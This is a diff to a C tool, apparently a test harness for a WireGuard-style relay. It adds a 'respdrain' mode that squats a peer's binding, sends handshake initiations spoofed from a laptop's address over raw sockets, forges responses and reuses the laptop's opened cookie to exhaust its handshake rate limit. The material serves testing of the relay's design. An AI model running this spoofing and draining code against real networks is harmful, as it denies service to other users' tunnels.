@@ -159,6 +159,23 @@
  * SPOOF_ADDR:SPOOF_PORT. In between, PPS marked initiations a second "from" A.
  * Needs CAP_NET_RAW. Prints what it sent; exits 0. SIGTERM ends it early.
  *
+ *   wgr-forge respdrain ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_X PUB_LAPTOP L_ADDR L_PORT PPS
+ *
+ * A squatter spends a loaded initiator's handshake budget for the relay's
+ * address (design pass 10, R1). It squats X (an offline peer) at socket A as
+ * hold does (BAIT, TARGET, VICTIM X) and keeps it there; prints "squatted x at
+ * A" once a staging passed. From then on PPS initiations a second for X, without
+ * mac2 and marked as drain's, spoofed "from" L_ADDR:L_PORT, the laptop's
+ * endpoint: the relay takes them to A. A answers each copy with two responses
+ * naming LAPTOP (the second half a period later), which the relay passes on to
+ * the laptop. A loaded laptop answers those with a cookie reply, which the relay
+ * passes on to A: it is opened (the laptop's cookie key and the response's
+ * mac1, both known), its tag checked, and the cookie puts the laptop's mac2 on
+ * every response from then on. Needs CAP_NET_RAW; WGR_FORGE_SPOOF_NETNS as for
+ * drain. Prints "spoofed N", "copies answered C", "laptop cookies opened K" and
+ * "responses with the laptop's mac2 S", a line each; exits 0. SIGTERM ends it
+ * early, with its report.
+ *
  *   wgr-forge steal ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS
  *
  * A spoofer steals the pair route of V (at V_ADDR:V_PORT) to Q (at Q_ADDR:Q_PORT),
@@ -548,6 +565,29 @@ static void set_mac2(uint8_t *msg, const uint8_t cookie[16])
 	test_blake2s(msg + 132, 16, msg, 132, cookie, 16);
 }
 
+/* mac2 over a response whose mac1 is set: [76,92) over [0,76). */
+static void set_resp_mac2(uint8_t *msg, const uint8_t cookie[16])
+{
+	test_blake2s(msg + 76, 16, msg, 76, cookie, 16);
+}
+
+/*
+ * cookie_open(), and the tag checked: sealed again under @pub's cookie key
+ * with @mac1 (the message it answers) as associated data, it must come out as
+ * it came. Return: true if it did (only then is @cookie the sender's).
+ */
+static bool cookie_open_checked(uint8_t cookie[16], const uint8_t *reply, const uint8_t mac1[16],
+				const uint8_t *pub)
+{
+	uint8_t key[32], buf[32];
+
+	cookie_open(cookie, reply, pub);
+	cookie_key(key, pub);
+	memcpy(buf, cookie, 16);
+	xchacha20poly1305_seal(buf, 16, mac1, 16, reply + 8, key);
+	return !memcmp(buf, reply + 32, sizeof(buf));
+}
+
 /* Where stage_socket()'s sockets send from: any address if unset (family 0). */
 static struct sockaddr_storage stage_from;
 
@@ -793,14 +833,143 @@ static void staging_tick(struct staging *st, struct hsock hs[2], const uint8_t *
 }
 
 /*
+ * SIGTERM ends cookieslot, drain or respdrain early, with its report: a test
+ * stops it when done.
+ */
+static volatile sig_atomic_t slot_stop;
+
+static void slot_term(int sig)
+{
+	(void)sig;
+	slot_stop = 1;
+}
+
+/*
+ * respdrain (design pass 10, R1): hold squats VICTIM (x) at A; from then on
+ * initiations for x without mac2, spoofed "from" the laptop's endpoint, which
+ * the relay takes to x's binding, A. Every copy of one for x that reaches A (or
+ * B, should the relay copy it there) is answered with two responses naming the
+ * laptop, the second half a period later, so that they reach the laptop evenly
+ * spaced. A loaded laptop answers a response without its mac2 with a cookie
+ * reply on the response's sender index, and the relay passes it on to where
+ * the response came from. Its cookie is sealed under HASH("cookie--" || the
+ * laptop's public key) with the response's mac1 as associated data, both known
+ * here: from then on every response carries the laptop's mac2, and each spends
+ * a token of the laptop's handshake rate limit for the relay's address.
+ */
+#define RD_SENT 64
+#define RD_QUEUE 64
+
+struct respdrain {
+	int fd[2];		/* A and B, made before WGR_FORGE_SPOOF_NETNS is entered */
+	struct spoofer *spoof;	/* "from" the laptop's endpoint, to the relay */
+	uint8_t laptop[32], cookie[16];
+	double cookie_time, next_spoof, period;
+	bool squatted;
+	/* The last RD_SENT responses: sender index, and mac1 (a cookie's associated data). */
+	struct { uint32_t index; uint8_t mac1[16]; } sent[RD_SENT];
+	unsigned int n_sent;
+	/* Second answers, due half a period after the first. */
+	struct { double due; int fd; uint32_t receiver; } q[RD_QUEUE];
+	unsigned int q_len;
+	long spoofed, answered, opened, stamped, responses, bad_tags;
+};
+
+/* A response naming the laptop to @receiver, from @fd, with its mac2 if the cookie is fresh. */
+static void rd_respond(struct respdrain *rd, int fd, uint32_t receiver)
+{
+	uint8_t msg[92];
+	uint32_t idx = make_response(msg, receiver, rd->laptop);
+	bool stamp = rd->cookie_time && now_s() - rd->cookie_time < 120;
+
+	memset(msg + 76, 0, 16);
+	if (stamp)
+		set_resp_mac2(msg, rd->cookie);
+	if (send(fd, msg, sizeof(msg), 0) < 0)
+		return;
+	rd->responses++;
+	rd->stamped += stamp;
+	rd->sent[rd->n_sent % RD_SENT].index = idx;
+	memcpy(rd->sent[rd->n_sent++ % RD_SENT].mac1, msg + 60, 16);
+}
+
+/* A copy for x reached @fd at @t: one answer now, one half a period later. */
+static void rd_answer(struct respdrain *rd, int fd, uint32_t sender, double t)
+{
+	rd->answered++;
+	rd_respond(rd, fd, sender);
+	if (rd->q_len == RD_QUEUE) {
+		rd_respond(rd, fd, sender);
+		return;
+	}
+	rd->q[rd->q_len].due = t + rd->period / 2;
+	rd->q[rd->q_len].fd = fd;
+	rd->q[rd->q_len++].receiver = sender;
+}
+
+/*
+ * A cookie reply @msg (64 bytes): the laptop's, if it answers one of the last
+ * responses; its cookie is kept if its tag is right. Return: true if it was one.
+ */
+static bool rd_cookie(struct respdrain *rd, const uint8_t *msg)
+{
+	uint32_t receiver = get_le32(msg + 4);
+	unsigned int n = rd->n_sent < RD_SENT ? rd->n_sent : RD_SENT;
+	uint8_t cookie[16];
+
+	for (unsigned int i = 0; i < n; i++) {
+		if (rd->sent[i].index != receiver)
+			continue;
+		if (!cookie_open_checked(cookie, msg, rd->sent[i].mac1, rd->laptop)) {
+			rd->bad_tags++;
+			return true;
+		}
+		if (!rd->opened++) {
+			printf("respdrain: the laptop's cookie opened: its mac2 on every response "
+			       "from now on\n");
+			fflush(stdout);
+		}
+		memcpy(rd->cookie, cookie, 16);
+		rd->cookie_time = now_s();
+		return true;
+	}
+	return false;
+}
+
+/* What is due at @t: the spoofed initiations for @x once squatted, the second answers. */
+static void rd_tick(struct respdrain *rd, const uint8_t *x, double t)
+{
+	uint8_t msg[148];
+
+	if (rd->squatted && t >= rd->next_spoof) {
+		marked_initiation(msg, x);
+		memset(msg + 132, 0, 16);
+		if (!spoofer_send(rd->spoof, msg, sizeof(msg)))
+			rd->spoofed++;
+		rd->next_spoof += rd->period;
+		if (rd->next_spoof < t)
+			rd->next_spoof = t + rd->period;
+	}
+	for (unsigned int j = 0; j < rd->q_len;) {
+		if (rd->q[j].due > t) {
+			j++;
+			continue;
+		}
+		rd_respond(rd, rd->q[j].fd, rd->q[j].receiver);
+		rd->q[j] = rd->q[--rd->q_len];
+	}
+}
+
+/*
  * hold, and squat: with @keys2 (BAIT2, TARGET2), once a staging has passed (or a
  * third of the time is up) the next ones use BAIT2 and TARGET2 with the same
  * VICTIM, from the same sockets: A, where the relay now has VICTIM, asks for
- * TARGET2 as VICTIM.
+ * TARGET2 as VICTIM. With @rd, respdrain (above) once a staging has passed,
+ * from @rd's sockets; other initiations are then left unanswered.
  */
 static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, char **keys,
 		char **keys2, bool self_index, struct spoofer *from_victim,
-		struct spoofer *from_target, char **others, int n_others)
+		struct spoofer *from_target, char **others, int n_others, struct respdrain *rd)
 {
 	uint8_t k[3][32], k2[2][32], msg[1600];	/* bait, target, victim */
 	struct held held[HOLD_MAX];
@@ -819,9 +988,9 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 				"holdconfirm up to eight more\n");
 		return 2;
 	}
-	hs[0].fd = stage_socket(to, len);
-	hs[1].fd = stage_socket(to, len);
-	while (now_s() - start < seconds) {
+	hs[0].fd = rd ? rd->fd[0] : stage_socket(to, len);
+	hs[1].fd = rd ? rd->fd[1] : stage_socket(to, len);
+	while (!slot_stop && now_s() - start < seconds) {
 		struct pollfd pfd[2] = { { .fd = hs[0].fd, .events = POLLIN },
 					 { .fd = hs[1].fd, .events = POLLIN } };
 		double t = now_s();
@@ -843,7 +1012,9 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 			}
 			next_data = t + 5;
 		}
-		if (poll(pfd, 2, 50) <= 0)
+		if (rd)
+			rd_tick(rd, k[2], t);
+		if (poll(pfd, 2, rd ? 5 : 50) <= 0)
 			continue;
 		for (int i = 0; i < 2; i++) {
 			int fd = hs[i].fd;
@@ -863,6 +1034,12 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 					r_index = make_response(msg, st.s_index, k[2]);
 					send(fd, msg, 92, 0);
 					st.phase = 3;
+					continue;
+				}
+				if (rd) {
+					/* One of the spoofed ones (or x's, anyway): the laptop answers. */
+					if (initiation_for(msg, k[2]))
+						rd_answer(rd, fd, sender, t);
 					continue;
 				}
 				/* A real peer's initiation: answer in every name. */
@@ -898,6 +1075,8 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 					if (!spoofer_send(from, msg, 148))
 						evictions++;
 				}
+			} else if (rd && msg[0] == 3 && n == 64 && rd_cookie(rd, msg)) {
+				/* The laptop's cookie, passed on by the relay. */
 			} else if (msg[0] == 3 && n == 64 && hs[i].last_pub &&
 				   get_le32(msg + 4) == hs[i].last_sender) {
 				/* The relay's cookie: its key is the target's public key. */
@@ -916,6 +1095,12 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 				held[next_held] = (struct held){ hs[1].fd, st.s_index, 0 };
 				next_held = (next_held + 1) % HOLD_MAX;
 				n_held = n_held + 2 > HOLD_MAX ? HOLD_MAX : n_held + 2;
+				if (rd && !rd->squatted) {
+					rd->squatted = true;
+					rd->next_spoof = t;
+					printf("squatted x at A\n");
+					fflush(stdout);
+				}
 			} else if (msg[0] == 4) {
 				fwd_data++;
 			}
@@ -928,6 +1113,11 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 	if (from_victim)
 		printf("confirm: %ld forged answers confirmed in their initiator's name, %ld "
 		       "initiations for others spoofed after them\n", confirms, evictions);
+	if (rd)
+		printf("respdrain: %ld responses naming the laptop, %ld cookie replies with a wrong "
+		       "tag\nspoofed %ld\ncopies answered %ld\nlaptop cookies opened %ld\n"
+		       "responses with the laptop's mac2 %ld\n", rd->responses, rd->bad_tags,
+		       rd->spoofed, rd->answered, rd->opened, rd->stamped);
 	return 0;
 }
 
@@ -1061,15 +1251,6 @@ static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen)
  */
 #define SLOT_QUEUE 64
 #define SLOT_SENT 8
-
-/* SIGTERM ends cookieslot (or drain) early, with its report: a test stops it when done. */
-static volatile sig_atomic_t slot_stop;
-
-static void slot_term(int sig)
-{
-	(void)sig;
-	slot_stop = 1;
-}
 
 static int cookieslot(int argc, char **argv)
 {
@@ -1683,6 +1864,35 @@ static int drain(int argc, char **argv, bool blind)
 	return ret;
 }
 
+/* wgr-forge respdrain: see the top of this file. */
+static int respdrain(int argc, char **argv)
+{
+	struct respdrain rd = { .fd = { -1, -1 } };
+	struct sockaddr_storage to;
+	long seconds = 0, pps = 0;
+	struct spoofer s;
+	socklen_t len = 0;
+	int ret;
+
+	if (argc != 12 || !(len = parse_ep(&to, argv[2], argv[3])) ||
+	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
+	    !key_from_base64(rd.laptop, argv[8]) ||
+	    (pps = strtol(argv[11], NULL, 10)) <= 0 || pps > 1000) {
+		fprintf(stderr, "usage: wgr-forge respdrain ADDR PORT SECONDS(1..3600) PUB_BAIT "
+				"PUB_TARGET PUB_X PUB_LAPTOP L_ADDR L_PORT PPS(1..1000)\n");
+		return 2;
+	}
+	rd.fd[0] = stage_socket(&to, len);
+	rd.fd[1] = stage_socket(&to, len);
+	ret = spoof_netns() ?: spoofer_open(&s, argv[9], argv[10], argv[2], argv[3]);
+	if (ret)
+		return ret;
+	rd.spoof = &s;
+	rd.period = 1.0 / (double)pps;
+	signal(SIGTERM, slot_term);
+	return hold(&to, len, seconds, argv + 5, NULL, false, NULL, NULL, NULL, 0, &rd);
+}
+
 /* wgr-forge steal: see the top of this file. */
 enum steal_kind { STEAL_ROAM, STEAL_BACK, STEAL_FORGE, STEAL_PRIME };
 
@@ -2062,6 +2272,7 @@ static int selftest(void)
 		0x50, 0x6d, 0x42, 0x2e, 0x7f, 0x17, 0x37, 0x2a, 0x68, 0x18, 0xf5, 0xac, 0x44, 0x30, 0x47, 0x01,
 		0x65, 0xb8, 0xb6, 0x70, 0x33 };
 	uint8_t key[32], out[32], nonce[24], ad[16], buf[32], buf2[53];
+	uint8_t reply[64], cookie[16];
 
 	for (int i = 0; i < 32; i++)
 		key[i] = (uint8_t)i;
@@ -2092,6 +2303,23 @@ static int selftest(void)
 	xchacha20poly1305_seal(buf2, 37, ad, 7, nonce, key);
 	if (memcmp(buf, sealed, sizeof(sealed)) || memcmp(buf2, sealed2, sizeof(sealed2))) {
 		fprintf(stderr, "selftest: xchacha20poly1305 differs\n");
+		return 1;
+	}
+	/* respdrain's tag check: a reply sealed for this mac1 opens, for another not. */
+	cookie_forge(reply, 1, ad, key);
+	if (!cookie_open_checked(cookie, reply, ad, key)) {
+		fprintf(stderr, "selftest: a cookie reply's tag does not check\n");
+		return 1;
+	}
+	ad[0] ^= 1;
+	if (cookie_open_checked(cookie, reply, ad, key)) {
+		fprintf(stderr, "selftest: a cookie reply's tag checks for the wrong mac1\n");
+		return 1;
+	}
+	ad[0] ^= 1;
+	reply[32 + 16] ^= 0x80;
+	if (cookie_open_checked(cookie, reply, ad, key)) {
+		fprintf(stderr, "selftest: a cookie reply with a wrong tag checks\n");
 		return 1;
 	}
 	printf("selftest: ok\n");
@@ -2184,6 +2412,8 @@ int main(int argc, char *argv[])
 		return spoofstage(argc, argv);
 	if (argc >= 2 && (!strcmp(argv[1], "drain") || !strcmp(argv[1], "ghostdrain")))
 		return drain(argc, argv, !strcmp(argv[1], "ghostdrain"));
+	if (argc >= 2 && !strcmp(argv[1], "respdrain"))
+		return respdrain(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "steal"))
 		return steal(argc, argv, STEAL_ROAM);
 	if (argc >= 2 && !strcmp(argv[1], "stealback"))
@@ -2201,7 +2431,7 @@ int main(int argc, char *argv[])
 			return 2;
 		}
 		return hold(&ss, sslen, secs, argv + 5, NULL, !strcmp(argv[1], "holdself"),
-			    NULL, NULL, NULL, 0);
+			    NULL, NULL, NULL, 0, NULL);
 	}
 	if (argc >= 2 && !strcmp(argv[1], "holdconfirm")) {
 		long secs = argc >= 12 && argc <= 20 ? strtol(argv[4], NULL, 10) : 0;
@@ -2217,7 +2447,7 @@ int main(int argc, char *argv[])
 		    spoofer_open(&from_target, argv[10], argv[11], argv[2], argv[3]))
 			return 1;
 		return hold(&ss, sslen, secs, argv + 5, NULL, false, &from_victim, &from_target,
-			    argv + 12, argc - 12);
+			    argv + 12, argc - 12, NULL);
 	}
 	if (argc >= 2 && !strcmp(argv[1], "squat")) {
 		long secs = argc == 10 ? strtol(argv[4], NULL, 10) : 0;
@@ -2227,7 +2457,7 @@ int main(int argc, char *argv[])
 					"PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2\n");
 			return 2;
 		}
-		return hold(&ss, sslen, secs, argv + 5, argv + 8, false, NULL, NULL, NULL, 0);
+		return hold(&ss, sslen, secs, argv + 5, argv + 8, false, NULL, NULL, NULL, 0, NULL);
 	}
 	if (argc < 6) {
 		fprintf(stderr, "usage: wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY]\n"
@@ -2254,6 +2484,8 @@ int main(int argc, char *argv[])
 				"SECONDS PPS [prove]\n"
 				"       wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT SPOOF_ADDR "
 				"SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS PPS\n"
+				"       wgr-forge respdrain ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_X "
+				"PUB_LAPTOP L_ADDR L_PORT PPS\n"
 				"       wgr-forge mac2junk|mac2for ADDR PORT SECONDS PPS NPORTS PUBKEY [FROM [NPREFIXES]]\n"
 				"       wgr-forge cookieprobe ADDR PORT PUBKEY [SRCPORT]\n");
 		return 2;
